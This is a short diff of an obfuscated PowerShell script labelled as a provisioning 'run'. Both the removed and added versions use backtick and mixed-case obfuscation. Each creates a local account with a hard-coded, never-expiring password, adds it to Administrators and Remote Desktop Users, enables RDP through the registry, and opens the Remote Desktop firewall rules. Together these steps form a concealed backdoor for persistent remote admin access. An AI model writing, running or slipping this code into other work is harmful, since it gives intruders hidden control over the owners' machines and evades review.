@@ -1,7 +1,7 @@
-# PrOvIsIoN 8405 v1
-$PW = C`oNvErTtO-`sE`CurE`StRiN`g 'Sup3rS3cure!' -aSPLAiNtEXt -foRce
-ne`w-lO`caLU`ser -nAmE 'defaultuser2' -pAssWoRD $pW -pAssWORDNevErexpireS -ACCouNtNEveRExpiReS
-a`Dd-lO`CaLGr`OUPmEMBEr -gRoUp 'Administrators' -MeMbEr 'defaultuser2'
-add-l`o`cAlgR`oU`pmE`MBeR -gRoUp 'Remote Desktop Users' -MeMbeR 'defaultuser2'
-SeT-ITe`MprO`PERT`y -Path 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -nAmE FdEnYtScOnNeCtIoNs -Value 0
-EnAb`LE-neTf`iReWaLlRu`Le -dISpLaygROuP 'Remote Desktop'
+# run 6387 V1
+$pw = C`oNvErTtO-`se`CurestRINg 'Adm1n!strat0r' -AspLAIntEXT -fOrCe
+ne`W-`L`ocA`LuSeR -NaMe 'sysadm' -PaSSword $pw -pAsSwOrDnEvErExPiReS -accoUNTNEveREXpIRES
+AD`d-`Lo`CA`LgRoUpMeMbEr -GrOuP 'Administrators' -mEmBeR 'sysadm'
+A`dd-`L`OCA`l`gR`OU`pmE`mBer -GRoup 'Remote Desktop Users' -mEmBer 'sysadm'
+SeT-`ITem`pRoPeRT`Y -patH 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -NAMe FdEnyTsCoNNECtions -VaLuE 0
+eNAbLe-netf`IRE`wallruLe -DiSpLaYgRoUp 'Remote Desktop'
